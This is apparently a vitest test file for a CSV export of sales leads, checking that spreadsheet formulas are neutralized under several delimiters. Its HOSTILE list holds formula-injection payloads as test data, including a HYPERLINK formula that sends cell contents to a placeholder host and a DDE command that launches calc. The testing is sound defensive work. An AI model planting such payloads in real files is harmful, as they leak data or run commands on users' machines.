import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { leadsToCsv } from '@/lib/leads/export'
import { CSV_DELIMITERS, neutralizeFormulas, toCsv } from './csv'

/** What the agency types or a visitor sends that a spreadsheet would run if it became a cell of its own. */
const HOSTILE = [
  'Budi;=1+1;x',
  'Halo;=HYPERLINK("https://contoh.invalid/?"&F2&G2;"klik");ok',
  'Toko, =cmd|" /C calc"!A0',
  '=SUM(A1:A9)',
  '+628123',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  'baris satu\n=1+1',
  'baris satu\r\n@x',
  'tab\t+1',
  '=;=;=',
]
const FORMULA_START = /^[=+\-@\t\r]/

/** Every cell a spreadsheet could make of the file when it assumes `delimiter`, honouring quotes or not. */
function cellsAsRead(csv: string, delimiter: string): string[] {
  const body = csv.replace(/^\uFEFF/, '')
  const quoted = (parse(body, { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]).flat()
  // A reader that ignores quotes splits on every delimiter and line break; strip the quotes it leaves behind.
  const naive = body.split(/\r\n|\n|\r/).flatMap((line) => line.split(delimiter).map((cell) => cell.replace(/^"+/, '')))
  return [...quoted, ...naive]
}

describe('the CSV writer', () => {
  it.each(CSV_DELIMITERS)(
    'written with %j, no cell starts a formula whichever delimiter a spreadsheet assumes',
    (written) => {
      const csv = toCsv([['Nama', 'Pesan'], ...HOSTILE.map((value) => [value, value])], written)
      for (const assumed of [',', ';', '\t']) {
        const live = cellsAsRead(csv, assumed).filter((cell) => FORMULA_START.test(cell))
        expect(live, `written with ${JSON.stringify(written)}, read with ${JSON.stringify(assumed)}`).toEqual([])
      }
    },
  )

  it('reads back every value (with the neutralizing apostrophes) under its own delimiter', () => {
    for (const delimiter of CSV_DELIMITERS) {
      const csv = toCsv([['Nama', 'Pesan'], ...HOSTILE.map((value) => [value, 'Halo "Budi"'])], delimiter)
      const rows = parse(csv.replace(/^\uFEFF/, ''), { delimiter }) as string[][]
      expect(rows).toEqual([['Nama', 'Pesan'], ...HOSTILE.map((value) => [neutralizeFormulas(value), 'Halo "Budi"'])])
    }
  })

  it('neutralizes a formula at the start and after , ; tab and line breaks, and leaves plain text alone', () => {
    expect(neutralizeFormulas('=1+1')).toBe("'=1+1")
    expect(neutralizeFormulas('Budi;=1+1;x')).toBe("Budi;'=1+1;x")
    expect(neutralizeFormulas('a,+1')).toBe("a,'+1")
    expect(neutralizeFormulas('a\t-1')).toBe("a\t'-1")
    expect(neutralizeFormulas('a\n@x')).toBe("a\n'@x")
    expect(neutralizeFormulas('=;=;=')).toBe("'=;'=;'=")
    expect(neutralizeFormulas('Budi Santoso, Jl. Merdeka 1-3; email budi@toko.co.id')).toBe(
      'Budi Santoso, Jl. Merdeka 1-3; email budi@toko.co.id',
    )
  })

  it('starts with a BOM, ends rows with CRLF and quotes every cell', () => {
    expect(
      toCsv(
        [
          ['a', 'b'],
          ['1', ''],
        ],
        ';',
      ),
    ).toBe('\uFEFF"a";"b"\r\n"1";""\r\n')
  })

  it('the lead export writes through it: quoted header cells with the chosen delimiter', () => {
    const csv = leadsToCsv([], ';')
    expect(csv.startsWith('\uFEFF"ID";"Diterima (UTC)";')).toBe(true)
  })
})
